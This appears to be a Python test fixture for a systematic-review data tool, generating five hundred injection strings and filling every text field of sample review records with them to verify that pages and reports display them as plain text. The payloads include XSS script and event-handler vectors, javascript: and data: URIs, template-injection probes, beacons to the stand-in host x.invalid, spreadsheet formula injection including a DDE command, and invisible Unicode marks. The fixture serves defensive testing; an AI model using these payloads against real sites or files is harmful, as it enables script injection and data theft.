"""Five hundred hostile texts, and a review with one of them in every text field of every kind.

Each tries to run, to ask a server for something, or to look like what it is not. What would run
sets ``window.__ran`` or opens a dialog; what would ask asks ``x.invalid``. Whatever shows a
reviewer's text must show these as the text that they are.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from enum import StrEnum
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

from pydantic import StringConstraints

from graph.model import (
    KINDS,
    FindingKind,
    Grade,
    Link,
    MergedBy,
    Part,
    Polarity,
    Record,
    ReviewBundle,
    Role,
    SourceKind,
    Stance,
    Status,
    StepKind,
    TheoryKind,
    Verdict,
)

RUN = "window.__ran=1"
REVIEW = "hostile"

_BEFORE = (
    "",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "\"'>",
    "]]>",
    "</td></table>",
)
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    "<script src=https://x.invalid/a.js></script>",
    f"<<script>{RUN}//<</script>",
    f"<!--<script>{RUN}",
)
_TAGS = (
    "<img src=x {}>",
    "<svg {}></svg>",
    "<body {}>",
    "<input autofocus {}>",
    "<details open {}>x</details>",
    "<video {}><source src=x></video>",
    "<iframe {}></iframe>",
    "<marquee {}>x</marquee>",
    "<a href=# {}>x</a>",
    '" {} x="',
    "' {} x='",
)
_EVENTS = (
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onpageshow",
    "onanimationstart", "onpointerenter", "onstart",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "javascript://x.invalid/%0a{}", "javascript:void({})", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}", "blob:{}", "feed:javascript:{}", "\u200bjavascript:{}",
)  # fmt: skip
_LINKS = (
    "{}", "<a href='{}'>x</a>", "<a href={}>x</a>", "[x]({})", "![x]({})", "<iframe src='{}'>",
    "<form action='{}'><button>x</button></form>", "<object data='{}'></object>",
    "<embed src='{}'>", "<base href='{}'>", "<meta http-equiv=refresh content='0;url={}'>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% print({}) %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "<?php {} ?>",
    "{{{{constructor.constructor('{}')()}}}}", "`${{{}}}`", "[[{}]]", "@({})", "{{!{}!}}",
    "{{{{''.__class__.__mro__}}}} {}", "{{{{ config }}}} {}", "%({})s", "{{0.__class__}} {}",
)  # fmt: skip
_DRAWINGS = (
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{} />",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><style><img src=x onerror={}></style>",
    "<svg><title><img src=x onerror={}></title>",
    "<svg><image href=https://x.invalid/p.png onload={} />",
    "<svg><handler type=text/ecmascript>{}</handler></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
)
_ENDS = (
    '";{}//', "';{}//", "\\\";{}//", "\\';{}//", "*/{}/*", "\u2028{}\u2029", "\\u003cscript>{}",
    "\\x3cscript\\x3e{}", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}", "]}};{}//", "}}</style><b>{}",
    "<style>*{{background:url(https://x.invalid/{})}}</style>", "<style>@import '//x.invalid/{}';",
    "<b style='width:expression({})'>x</b>", "<link rel=stylesheet href=//x.invalid/{}>",
    "<img src=//x.invalid/p?{}>", "<img srcset=//x.invalid/q?{}>", "<template>{}</template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<xmp>{}",
    "<isindex action=javascript:{}>", "<textarea autofocus onfocus={}>", "<!DOCTYPE x [{}]>",
    "<?xml version='1.0'?><x>{}</x>", "<!ENTITY x SYSTEM 'https://x.invalid/{}'>",
    "=HYPERLINK(\"https://x.invalid/{}\")", "=cmd|' /C calc'!A0 {}", "+1+{}", "-1-{}", "@SUM({})",
)  # fmt: skip
_UNSEEN = (
    "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f",
    "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f",
    "\u3164", "\ufff9", "\U000e0041", "\u0301" * 20,
)  # fmt: skip
_WORDS = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "-0.0",
)


def _payloads() -> list[str]:
    families = [
        [before + script for script in _SCRIPTS for before in _BEFORE],
        [tag.format(f"{event}={RUN}") for event in _EVENTS for tag in _TAGS],
        [link.format(scheme.format(RUN)) for scheme in _SCHEMES for link in _LINKS],
        [form.format(RUN) for form in (*_TEMPLATES, *_DRAWINGS, *_ENDS)],
        [
            form.format(mark)
            for mark in _UNSEEN
            for form in ("a{}b", "{}txet", "a <b>{}</b>", f"<scr{{}}ipt>{RUN}</script>")
        ],
        list(_WORDS),
        [f"<img src=x onerror=alert({number})>" for number in range(500)],
    ]
    found = dict.fromkeys(payload for family in families for payload in family)
    return list(found)[:500]


PAYLOADS: list[str] = _payloads()
"""Five hundred different texts, none longer than a name may be."""


TAG = re.compile(r"//\d+~")
"""What ends each text of a crowd, with a number of its own. JavaScript takes it for a comment, so
what would run without it runs with it."""
BETWEEN = "¶"
_ROOM_FOR_TAG = len("//12345~")

_LEVELS = "ids of the review's own levels; loading refuses any other word"
EXEMPT = {
    "Mechanism.levels": _LEVELS,
    "Configuration.levels": _LEVELS,
    "Evidence.levels": _LEVELS,
    "Finding.levels": _LEVELS,
    "Tally.of": "the id of a concept or stage",
    "Reference.fields": "JSON of a file; its values are texts, which no page or report shows",
    "Reference.reads_as": "JSON of columns; it is read back and never shown",
    "Silence.rule": "the name of a rule of lint",
    "Merge.moved": "ids of records, written by the tool",
}
"""Fields that are texts by their type and that a crowd does not fill with any text, and why."""


def hostile(payload: str, review: str = REVIEW) -> ReviewBundle:
    """A valid review with ``payload`` in every text field of every kind.

    Its records are linked, so that every answer and every page has something to show: the
    mechanism ``m``, the configuration ``cfg`` with the concepts ``context``, ``resource``,
    ``reasoning`` and ``outcome``, one source and one piece of evidence for each of the five kinds
    of source, a finding, a theory, and one record of each other kind. A DOI and a web address
    hold it too: the address as it is, the DOI without white space.
    """
    return _bundle(
        review, payload, lambda _: [[payload]], lambda pieces, *_: list(pieces), [payload]
    )


@dataclass(slots=True)
class Crowd:
    """Reviews whose every text can be told from every other by its tag."""

    reviews: list[ReviewBundle] = field(default_factory=list)
    texts: dict[str, tuple[str, str]] = field(default_factory=dict)
    """By its tag: the field that a text is in, such as ``Mechanism.note``, and the text."""
    but: frozenset[str] = frozenset()
    """Fields that are left empty."""

    @property
    def fields(self) -> set[str]:
        """The fields that are filled."""
        return {name for name, _ in self.texts.values()}

    def payloads(self, tags: Iterable[str]) -> dict[str, set[str]]:
        """What the texts with these tags hold, by field."""
        held: dict[str, set[str]] = {}
        for tag in tags:
            name, text = self.texts[tag]
            held.setdefault(name, set()).update(text.removesuffix(tag).split(BETWEEN))
        return held

    def found(self, text: str, even: Callable[[str], str] = str) -> set[str]:
        """The tags of the texts that stand in a text, each whole.

        Args:
            text: what a reader sees.
            even: what was done to white space in it.

        Raises:
            AssertionError: a tag is there, and what stands before it is not its text.
        """
        found = set()
        for tag in TAG.finditer(text):
            name, whole = self.texts[tag[0]]
            wanted = even(whole)
            seen = text[max(0, tag.end() - len(wanted)) : tag.end()]
            assert seen == wanted, f"{name} shows as {seen!r}, and is {wanted!r}"
            found.add(tag[0])
        return found


def crowd(payloads: Sequence[str] = PAYLOADS) -> Crowd:
    """A dozen reviews in which every text field of every kind holds each of the payloads.

    A field holds as many as it has room for, and a kind has as many records as that takes. Rows
    and columns of the gap matrix would multiply, so levels have a review of their own.
    """
    made = Crowd()
    for at, pieces in enumerate(_packed(payloads, min(_rooms(_kind("Review"))))):
        made.reviews.append(_crowded(made, f"crowd{at}", pieces, _rows(pieces, none=_COLUMNS)))
    others = frozenset(kind.label for kind in KINDS) - _COLUMNS - _ROWS
    wide = _rows(payloads, few=_ROWS, none=others)
    made.reviews.append(_crowded(made, "columns", payloads, wide))
    return made


def crowd_of_lone_texts(payloads: Sequence[str] = PAYLOADS) -> Crowd:
    """One review with a record of most kinds for each payload, which begins all its texts.

    What a text begins with decides whether a cell is a formula, a line a list, an address a script.
    The review itself, its levels and its stages have one record each. What would be a column of a
    matrix, or a coder or appraiser among hundreds, is left to the other crowd.
    """
    made = Crowd(but=_FEW)
    few = {"Review", "Stage", "Step", "Appraisal", *_COLUMNS}
    made.reviews.append(
        _crowded(
            made,
            "lone",
            ["plain"],
            lambda kind: [["plain"], *([each] for each in payloads if kind.label not in few)],
        )
    )
    return made


_ROWS, _COLUMNS = frozenset({"Mechanism"}), frozenset({"Level", "Perspective"})
_FEW = frozenset({"Evidence.perspective", "Evidence.setting", "Evidence.coder"})
Rows = Callable[[type[Record]], Sequence[Sequence[str]]]
"""The payloads of each record of a kind."""


def _rows(
    payloads: Sequence[str],
    *,
    few: frozenset[str] = frozenset(),
    none: frozenset[str] = frozenset(),
) -> Rows:
    """Records for all payloads; of some kinds one record only, of some none."""

    def rows(kind: type[Record]) -> Sequence[Sequence[str]]:
        if kind.label in none:
            return []
        if kind.label in few:
            return [payloads[:1]]
        return _packed(payloads, min(_rooms(kind)))

    return rows


def _packed(payloads: Sequence[str], room: int) -> list[list[str]]:
    """The payloads in groups that fit into a text of so many characters, with a tag."""
    groups: list[list[str]] = [[]]
    for payload in payloads:
        if len(BETWEEN.join([*groups[-1], payload])) > room - _ROOM_FOR_TAG and groups[-1]:
            groups.append([])
        groups[-1].append(payload)
    return groups


def _rooms(kind: type[Record]) -> list[int]:
    """How many characters the single texts of a kind may have."""
    return [room for shape, room in texts_of(kind).values() if shape is str]


def _crowded(made: Crowd, review: str, pieces: Sequence[str], rows: Rows) -> ReviewBundle:
    def fill(pieces: Sequence[str], name: str, shape: type, room: int) -> list[str]:
        texts: list[str] = []
        for group in [] if name in EXEMPT.keys() | made.but else _packed(pieces, room):
            tag = f"//{len(made.texts)}~"
            made.texts[tag] = name, BETWEEN.join(group) + tag
            texts.append(made.texts[tag][1])
            if shape is str:
                break
        return texts

    return _bundle(review, pieces[0], rows, fill, pieces)


def _kind(label: str) -> type[Record]:
    return next(kind for kind in KINDS if kind.label == label)


Fill = Callable[[Sequence[str], str, type, int], list[str]]
"""The texts of a field, from the payloads of its record: by the field, its shape and its room."""


def _bundle(
    review: str,
    payload: str,
    rows: Rows,
    fill: Fill,
    all_pieces: Sequence[str],
) -> ReviewBundle:
    """A review of the records below; of each kind as many more as there are rows for it.

    Fields of the first record of each kind hold as much as they have room for, and those of the
    review as much as its title has.
    """

    def of(local: str) -> str:
        return f"{review}:{local}"

    doi = "10.1234/" + "".join(payload.split())
    words = json.dumps({"TI": [payload]})
    kinds = list(SourceKind)
    targets = [
        {"mechanism": of("m")},
        {"configuration": of("cfg")},
        {"concept": of("context"), "role": Role.CONTEXT},
        {"theory": of("theory")},
        {"mechanism": of("m")},
    ]
    stances = list(Stance)
    grades = list(Grade)
    whole: dict[str, list[dict[str, Any]]] = {
        "Level": [{"id": of("level")}],
        "Perspective": [{"id": of("perspective")}],
        "Stage": [{"id": of("stage"), "position": 0}],
        "Step": [
            {"id": of("step"), "stage": of("stage"), "position": 0, "kind": StepKind.ENTRANCE}
            | {"n": 1}
        ],
        "Tally": [{"id": of("tally"), "position": 0, "n": 1, "of": of("context")}],
        "Reporting": [{"id": of("said"), "item": 19, "position": 0}],
        "Source": [
            {"id": of(f"s-{kind}"), "kind": kind, "doi": doi, "year": 2020, "stage": of("stage")}
            | {"entrance": of("step")}
            for kind in kinds
        ],
        "Mechanism": [{"id": of("m"), "number": 1}]
        + ([{"id": of("gone"), "number": 2}] if rows(_kind("HistoryEntry")) else []),
        "HistoryEntry": [
            {"id": of("h0"), "mechanism": of("m"), "position": 0, "status": Status.NEW}
            | {"stage": of("stage")},
            {"id": of("h1"), "mechanism": of("gone"), "position": 0, "into": [of("m")]}
            | {"status": Status.INCORPORATED},
        ],
        "Concept": [{"id": of(role)} for role in Role],
        "Configuration": [
            {"id": of("cfg"), "mechanisms": [of("m")], "polarity": Polarity.POSITIVE}
            | {f"{role}s": [Part(concept=of(role))] for role in Role}
        ],
        "Theory": [
            {"id": of("theory"), "kind": TheoryKind.PROGRAMME, "mechanisms": [of("m")]}
            | {"configurations": [of("cfg")], "concepts": [of("context")]}
        ],
        "Code": [{"id": of("code")}],
        "Passage": [
            {"id": of("passage"), "source": of("s-paper"), "code": of("code"), "span": "0-5"}
        ],
        "Evidence": [
            {"id": of(f"e{n}"), "source": of(f"s-{kind}"), "stance": stances[n % len(stances)]}
            | {"contexts": [of("context")], "rigour": grades[n % len(grades)]}
            | targets[n]
            for n, kind in enumerate(kinds)
        ],
        "Appraisal": [{"id": of("a"), "evidence": of("e0"), "rigour": Grade.LOW}],
        "Finding": [
            {"id": of("f"), "kind": FindingKind.FINDING, "mechanisms": [of("m")]}
            | {"said_by": [of("s-paper")], "searched": of("stage")}
        ],
        "SameAs": [{"id": of("same"), "mechanism": of("m"), "same_as": "elsewhere:m"}],
        "Reference": [
            {"id": of("ref"), "source": of("s-paper"), "merged_by": MergedBy.DOI}
            | {"fields": words, "reads_as": None}
        ],
        "Merge": [
            {"id": of("merge"), "one": of("s-paper"), "other": of("s-grey"), "moved": []}
            | {"verdict": Verdict.DIFFERENT}
        ],
        "Silence": [{"id": of("silence"), "rule": "near-duplicates", "record": of("m")}],
    }
    held = {kind.label: kind for kind in KINDS}
    fields = {
        kind.label: name
        for name, stated in ReviewBundle.model_fields.items()
        for kind in KINDS
        if get_args(stated.annotation) == (kind,)
    }

    def written(kind: type[Record], pieces: Sequence[str], given: dict[str, Any]) -> Record:
        texts: dict[str, Any] = {}
        for name, (shape, room) in texts_of(kind).items():
            found = [] if name in given else fill(pieces, f"{kind.label}.{name}", shape, room)
            if found:
                texts[name] = found if shape is list else found[0]
        if "organisations" in texts:  # who is an organisation is among the authors, too
            texts["authors"] = [*texts.get("authors", []), *texts["organisations"]]
        if "part_names" in texts:
            texts["parts"] = [1, *[0] * (len(texts["part_names"]) - 1)]
        return kind.model_validate(texts | given)

    filled = {label: rows(held[label]) for label in whole}
    copies = {records[0]["id"]: len(filled[label]) for label, records in whole.items()}

    def copied(value: Any, n: int) -> Any:
        """What a record says in its nth copy: ids are those of the nth copies, where there are."""
        if isinstance(value, list):
            return [copied(each, n) for each in value]
        if isinstance(value, Part):
            return Part(concept=copied(value.concept, n))
        return (
            f"{value}.{n}" if n and isinstance(value, str) and n < copies.get(value, 0) else value
        )

    made: dict[str, list[Record]] = {
        fields[label]: [
            written(
                held[label],
                pieces if n else all_pieces,
                {name: copied(value, n) for name, value in given.items()},
            )
            for n, pieces in enumerate(filled[label])
            for given in (records[:1] if n else records)
        ]
        for label, records in whole.items()
    }
    made["reporting"] = [
        said.model_copy(update={"item": 19 - n % 19}) for n, said in enumerate(made["reporting"])
    ]
    about = _packed(all_pieces, min(_rooms(held["Review"])))[0]
    own = {"id": review, "doi": doi, "year": 2020}
    return ReviewBundle.model_validate({"review": written(held["Review"], about, own), **made})


def texts_of(kind: type[Record]) -> dict[str, tuple[type, int]]:
    """The fields of a kind that may hold any text: ``str`` or ``list``, and room for how many."""
    texts = {}
    for name, stated in kind.model_fields.items():
        if not any(isinstance(mark, Link) for mark in stated.metadata):
            found = _shape(stated.annotation, stated.metadata)
            if found is not None:
                texts[name] = found[0], min(found[1], _SHARED.get(kind.label, _ANY))
    return texts


_ANY = 200_000
_SHARED = {"Reporting": 9_000}
"""Kinds whose texts share a cell of a workbook, which holds 32,767 characters."""


def _shape(annotation: Any, metadata: Any = ()) -> tuple[type, int] | None:
    """``str`` or ``list`` if any text, or a list of any texts, is allowed; else None."""
    if any(isinstance(mark, StringConstraints) and mark.pattern for mark in metadata):
        return None
    limits = [most for mark in metadata if (most := getattr(mark, "max_length", None))]
    origin = get_origin(annotation)
    if annotation is str:
        return str, min([_ANY, *limits])
    if origin is Annotated:
        inner, *marks = get_args(annotation)
        return None if any(isinstance(mark, Link) for mark in marks) else _shape(inner, marks)
    if origin is list:
        inside = _shape(get_args(annotation)[0])
        return (list, inside[1]) if inside is not None and inside[0] is str else None
    if origin in (Union, UnionType):
        found = [_shape(each) for each in get_args(annotation) if each is not type(None)]
        return found[0] if len(found) == 1 else None
    return None


def why_no_text(kind: type[Record], name: str) -> str | None:
    """Why a field cannot hold any text, by its type; None if it can, or if nothing explains it."""
    stated = kind.model_fields[name]
    marks = [*stated.metadata, *_leaves(stated.annotation)]
    for reason, told in _REASONS.items():
        if any(told(mark) for mark in marks):
            return reason
    return EXEMPT.get(f"{kind.label}.{name}")


_REASONS: dict[str, Callable[[Any], bool]] = {
    "ids of other records": lambda mark: isinstance(mark, Link),
    "it has a pattern": lambda mark: isinstance(mark, StringConstraints) and bool(mark.pattern),
    "a word of a fixed list": lambda mark: isinstance(mark, type) and issubclass(mark, StrEnum),
    "a number": lambda mark: mark is int,
    "yes or no": lambda mark: mark is bool,
}


def _leaves(annotation: Any) -> list[Any]:
    """The types and marks that an annotation is made of."""
    inside = get_args(annotation)
    return [leaf for each in inside for leaf in _leaves(each)] if inside else [annotation]
